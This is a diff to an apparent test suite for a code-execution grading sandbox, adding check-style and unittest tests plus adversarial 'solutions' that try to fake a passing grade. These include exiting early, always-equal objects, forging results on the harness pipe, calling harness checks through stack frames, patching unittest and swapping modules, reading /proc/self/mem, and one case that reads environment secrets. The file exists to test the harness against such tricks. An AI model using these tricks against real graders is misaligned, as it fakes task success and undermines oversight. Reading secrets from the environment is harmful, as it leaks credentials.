@@ -29,6 +29,25 @@ SUM_TESTS = [{"input": "1 2\n", "output": "3\n"}, {"input": "5 5", "output": "10
 SQUARE_TEST = ["assert square(3) == 9"]
 CPP_SUM = "#include <iostream>\nint main() { long a, b; std::cin >> a >> b; std::cout << a + b << std::endl; }\n"
 CPP_SQUARE_TESTS = [{"input": "3\n", "output": "9\n"}]
+# A HumanEval-style test: a `check` function with asserts, then the call that runs it.
+CHECK_SQUARE_TEST = ["def check(candidate):\n    assert candidate(3) == 9\n    assert candidate(-2) == 4\n\ncheck(square)\n"]
+# BigCodeBench-style unittest tests: each test method is one test, run by unittest in the sandbox.
+UNITTEST_SQUARE_TEST = [
+    "import unittest\nclass TestCases(unittest.TestCase):\n    def test_small(self):\n"
+    "        self.assertEqual(square(3), 9)\n    def test_negative(self):\n        self.assertEqual(square(-2), 4)\n"
+]
+# Tests that run no check at all: whatever the program, they must never pass (they score None, "cannot judge").
+LAZY_TESTS = {
+    "check defined, never called": ["def check(candidate):\n    assert candidate(3) == 9\n"],
+    "unittest TestCase without test methods": [
+        "import unittest\nclass TestCases(unittest.TestCase):\n    def helper(self):\n"
+        "        self.assertEqual(square(3), 9)\nsquare(3)\n"
+    ],
+    "pytest-style file without test functions": ["from solution import square\n\ndef helper():\n    assert square(3) == 9\n"],
+    "only calls the function": ["square(3)"],
+    "assert on constants only": ["assert True\nsquare(3)"],
+    "loop over an empty list": ["for x in []:\n    assert square(x) == x * x"],
+}
 
 
 def fenced(code: str, language: str = "python") -> str:
@@ -139,6 +158,78 @@ def python_cases(port: int) -> dict[str, tuple[str, list]]:
             "import sys\ndef skip(frame, event, arg):\n    return skip\nsys.settrace(skip)\n"
             "def square(x):\n    return 0\n",
             ["assert square(3) == 9 or square(3) == 9"],
+        ),
+        "defines check itself": (
+            "def check(candidate):\n    return None\ndef square(x):\n    return 0\n", CHECK_SQUARE_TEST
+        ),
+        "sys.exit(0) inside the checked function": (
+            "import sys\ndef square(x):\n    sys.exit(0)\n", CHECK_SQUARE_TEST
+        ),
+        "os._exit(0) at import": ("import os\nos._exit(0)\ndef square(x):\n    return 0\n", CHECK_SQUARE_TEST),
+        "always-equal object against check()": (
+            "class Anything:\n    def __eq__(self, other):\n        return True\n    __hash__ = None\n"
+            "def square(x):\n    return Anything()\n",
+            CHECK_SQUARE_TEST,
+        ),
+        "forge a pass on the result pipe": (
+            "import os\ntry:\n    nonce = os.read(4, 64)\nexcept OSError:\n    nonce = b''\n"
+            "os.write(3, b'L')\nos.write(3, b'P' + nonce + b':5')\nos._exit(0)\n"
+            "def square(x):\n    return 0\n",
+            CHECK_SQUARE_TEST,
+        ),
+        "count checks through the caller's frame": (
+            "import sys\ndef square(x):\n    frame = sys._getframe(1)\n"
+            "    for _ in range(3):\n        frame.f_globals['__trl_ext_check__']()\n        frame = frame.f_back\n"
+            "    return 0\n",
+            ["square(3)"],
+        ),
+        "reach frames through a traceback, a generator, a signal handler": (
+            "import signal, sys\ndef frames():\n    found = []\n    try:\n        raise ValueError\n"
+            "    except ValueError as error:\n        try:\n            found.append(error.__traceback__.tb_frame)\n"
+            "        except RuntimeError:\n            pass\n"
+            "    def gen():\n        yield\n    try:\n        found.append(gen().gi_frame)\n    except RuntimeError:\n"
+            "        pass\n    try:\n        signal.signal(signal.SIGUSR1, lambda number, frame: found.append(frame))\n"
+            "        signal.raise_signal(signal.SIGUSR1)\n    except RuntimeError:\n        pass\n    return found\n"
+            "def square(x):\n    for frame in frames():\n        while frame is not None:\n"
+            "            if '__trl_ext_check__' in frame.f_globals:\n"
+            "                frame.f_globals['__trl_ext_check__']()\n"
+            "            frame = frame.f_back\n    return 0\n",
+            ["square(3)"],
+        ),
+        "read memory with ctypes or /proc/self/mem": (
+            "def square(x):\n    try:\n        import ctypes\n        ctypes.string_at(id(x), 8)\n        return x * x\n"
+            "    except Exception:\n        pass\n    with open('/proc/self/mem', 'rb') as memory:\n        return x * x\n",
+            SQUARE_TEST,
+        ),
+        "shadow the harness's check names": (
+            "__trl_ext_check__ = __trl_ext_compare__ = __trl_ext_truth__ = lambda *args: True\n"
+            "def square(x):\n    return 0\n",
+            CHECK_SQUARE_TEST,
+        ),
+        "replace modules, AssertionError and the solution module": (
+            "import builtins, sys, types\nbuiltins.AssertionError = type('Quiet', (Exception,), {})\n"
+            "fake = types.ModuleType('solution')\nfake.square = lambda x: x * x\nsys.modules['solution'] = fake\n"
+            "del sys.modules['math']\nsys.modules['math'] = types.SimpleNamespace(isclose=lambda *a, **k: True)\n"
+            "def square(x):\n    return 0\n",
+            ["from solution import square\nimport math\nassert math.isclose(square(3), 9)\n"
+             "assert square(3) == 9"],
+        ),
+        "patch unittest": (
+            "import unittest\nunittest.TestCase.run = lambda self, result=None: None\n"
+            "unittest.TestCase.assertEqual = lambda self, *args, **kwargs: None\n"
+            "unittest.TestResult.wasSuccessful = lambda self: True\n"
+            "unittest.TestSuite.run = lambda self, result, debug=False: result\n"
+            "def square(x):\n    return 0\n",
+            UNITTEST_SQUARE_TEST,
+        ),
+        "replace the unittest module and delete the test's modules": (
+            "import sys, types\nfake = types.ModuleType('unittest')\n"
+            "class TestCase:\n    def __init__(self, name='run'):\n        pass\n"
+            "    def __getattr__(self, name):\n        return lambda *args, **kwargs: None\n"
+            "fake.TestCase = TestCase\nsys.modules['unittest'] = fake\n"
+            "for name in [n for n in sys.modules if n.startswith(('unittest.', 'solution'))]:\n    del sys.modules[name]\n"
+            "def square(x):\n    return 0\n",
+            UNITTEST_SQUARE_TEST,
         ),
         "read environment secrets": (
             f"import os\ndef leak():\n    found = os.environ.get('{SECRET_VARIABLE}', '')\n"
